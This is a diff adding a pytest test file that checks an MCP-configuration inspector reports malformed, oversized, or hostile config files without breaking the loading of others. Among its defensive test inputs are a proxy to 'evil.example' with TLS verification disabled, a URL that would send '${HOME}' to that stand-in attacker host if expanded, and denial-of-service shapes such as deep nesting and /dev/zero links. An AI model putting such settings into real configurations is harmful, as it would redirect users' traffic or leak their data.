@@ -1,0 +1,167 @@
+"""Files that are broken or meant to do harm: each is reported, and the others still load."""
+
+from __future__ import annotations
+
+import os
+import sys
+from pathlib import Path
+
+import pytest
+
+from inspector.config.finding import FoundFile, look
+from inspector.config.places import Place
+
+
+def _place(path: Path, form: str = "mcp.json") -> Place:
+    return Place("Claude Code", "folder", path, form)
+
+
+def _found(path: Path, form: str = "mcp.json") -> FoundFile:
+    """What is found at a path, beside a good file that must not suffer from it."""
+    good = path.with_name("good.json")
+    good.write_text('{"mcpServers": {"good": {"command": "run"}}}')
+    first, second = look([_place(path, form), _place(good)]).files
+    assert [server.name for server in second.servers] == ["good"]
+    return first
+
+
+def _written(tmp_path: Path, text: str | bytes, form: str = "mcp.json") -> FoundFile:
+    path = tmp_path / "file"
+    path.write_bytes(text.encode() if isinstance(text, str) else text)
+    return _found(path, form)
+
+
+@pytest.mark.parametrize(
+    ("text", "form", "words"),
+    [
+        ('{"mcpServers": {\n  "a": {"command": "x"}\n  "b": {}}}', "mcp.json", "line 3, column 3"),
+        ("", "codex", ""),
+        ('[mcp_servers.a]\ncommand = "x\n', "codex", "line 2, column 13"),
+        ("[]", "mcp.json", "must hold a JSON object"),
+        ('"' * 100_000, "mcp.json", "line 1"),
+        ('{"a":' * 100_000, "mcp.json", "nested too deeply"),
+        ('{"a":' * 500 + "1" + "}" * 500, "mcp.json", "nested too deeply"),
+        ("a = " + "[" * 100_000, "codex", "nested too deeply"),
+        ("a" + ".a" * 100_000 + " = 1", "codex", "nested too deeply"),
+        (b'{"a": \xff}', "mcp.json", "not UTF-8 text, from line 1"),
+        ('{"mcpServers": {}}'.encode("utf-16"), "mcp.json", "not UTF-8"),
+        (b"\0\0\0", "mcp.json", "line 1"),
+    ],
+)
+def test_a_broken_file_is_said_and_costs_no_other(
+    tmp_path: Path, text: str | bytes, form: str, words: str
+) -> None:
+    if not text:
+        path = tmp_path / "file"
+        path.write_bytes(b"")
+        assert look([_place(path, form)]).files == ()
+        return
+    found = _written(tmp_path, text, form)
+    assert words in found.problem
+    assert found.servers == ()
+
+
+def test_a_huge_file_is_not_read(tmp_path: Path) -> None:
+    path = tmp_path / "file"
+    with path.open("wb") as file:
+        file.truncate(40 * 1024 * 1024)
+    assert "bigger than" in _found(path).problem
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="POSIX files")
+def test_what_is_no_plain_file_is_not_opened(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "pipe")
+    (tmp_path / "folder").mkdir()
+    (tmp_path / "zero").symlink_to("/dev/zero")
+    for name in ("pipe", "folder", "zero"):
+        assert "no plain file" in _found(tmp_path / name).problem
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="links need rights there")
+def test_links_that_lead_in_a_circle_or_nowhere_are_said(tmp_path: Path) -> None:
+    (tmp_path / "a").symlink_to(tmp_path / "b")
+    (tmp_path / "b").symlink_to(tmp_path / "a")
+    (tmp_path / "lost").symlink_to(tmp_path / "nothing")
+    assert "cannot be read" in _found(tmp_path / "a").problem
+    assert "leads nowhere" in _found(tmp_path / "lost").problem
+
+
+@pytest.mark.skipif(sys.platform == "win32" or os.geteuid() == 0, reason="who is root reads everything")
+def test_a_file_without_the_right_to_read_is_said(tmp_path: Path) -> None:
+    (tmp_path / "file").write_text("{}")
+    (tmp_path / "file").chmod(0)
+    assert "Permission denied" in _found(tmp_path / "file").problem
+
+
+def test_a_file_that_is_not_there_is_not_found(tmp_path: Path) -> None:
+    assert look([_place(tmp_path / "none"), _place(tmp_path / "none" / "deeper")]).files == ()
+
+
+@pytest.mark.parametrize(
+    ("raw", "words"),
+    [
+        ("null", "must be an object"),
+        ("[1]", "must be an object"),
+        ("{}", "command"),
+        ('{"command": 3}', "command"),
+        ('{"command": "x", "args": "y"}', "args"),
+        ('{"command": "x", "args": [1]}', "args"),
+        ('{"command": "x", "env": ["A=b"]}', "env"),
+        ('{"command": "x", "env": {"A": {"ref": "env/other/KEY"}}}', "env.A"),
+        ('{"url": "https://x/mcp", "headers": {"A": {"ref": "header/other/KEY"}}}', "headers.A"),
+        ('{"url": "ftp://x/"}', "ftp"),
+        ('{"url": "https://u:p@x/"}', "password"),
+        ('{"url": "https://x/", "type": "carrier-pigeon"}', "type"),
+        ('{"url": "https://x/", "bearer_token_env_var": "A} ${B"}', "no name of a variable"),
+        ('{"url": "https://x/", "timeout": 1e999}', "timeouts"),
+        ('{"command": "x", "disabled": "yes"}', "disabled"),
+    ],
+)
+def test_a_bad_server_is_said_and_its_neighbours_load(tmp_path: Path, raw: str, words: str) -> None:
+    found = _written(tmp_path, f'{{"mcpServers": {{"bad": {raw}, "fine": {{"command": "run"}}}}}}')
+    bad, fine = found.servers
+    assert bad.entry is None
+    assert words in bad.problem
+    assert fine.entry is not None
+
+
+@pytest.mark.parametrize(
+    "member",
+    [
+        '"auth": {"type": "bearer", "token": {"ref": "bearer/other"}}',
+        '"auth": {"type": "oauth", "clientSecret": {"ref": "login/other/secret"}}',
+        '"network": {"verify": false, "proxy": "http://evil.example"}',
+        '"autoConnect": true',
+        '"capabilities": {"sampling": {}}',
+    ],
+)
+def test_a_foreign_file_sets_nothing_that_is_the_persons_to_set(tmp_path: Path, member: str) -> None:
+    plain = _written(tmp_path, '{"mcpServers": {"a": {"url": "https://x/mcp"}}}').servers[0]
+    found = _written(tmp_path, f'{{"mcpServers": {{"a": {{"url": "https://x/mcp", {member}}}}}}}').servers[0]
+    assert found.entry == plain.entry
+
+
+def test_a_repeated_name_is_said_with_its_lines(tmp_path: Path) -> None:
+    text = '{"mcpServers": {\n"a": {"command": "x"},\n"b": {"command": "y"},\n"a": {"command": "z"}}}'
+    found = _written(tmp_path, text)
+    assert [(server.name, server.line) for server in found.servers] == [("a", 4), ("b", 3)]
+    assert found.servers[0].remarks == ("Its name is there 2 times (lines 2, 4): the last one counts.",)
+
+
+def test_more_servers_than_anybody_has_are_cut_off_and_said(tmp_path: Path) -> None:
+    text = ",".join(f'"s{number}": {{"command": "x"}}' for number in range(1200))
+    found = _written(tmp_path, f'{{"mcpServers": {{{text}}}}}')
+    assert len(found.servers) == 1000
+    assert "1200" in found.remarks[0]
+
+
+def test_a_table_of_the_wrong_type_is_said(tmp_path: Path) -> None:
+    assert _written(tmp_path, '{"mcpServers": [1]}').remarks == ("“mcpServers” must be an object.",)
+
+
+def test_nothing_is_expanded_and_nothing_is_written(tmp_path: Path) -> None:
+    text = '{"mcpServers": {"a": {"url": "https://evil.example/?k=${HOME}"}}}'
+    server = _written(tmp_path, text).servers[0]
+    assert server.entry is not None
+    assert server.entry.address == "https://evil.example/?k=${HOME}"
+    assert (tmp_path / "file").read_text() == text
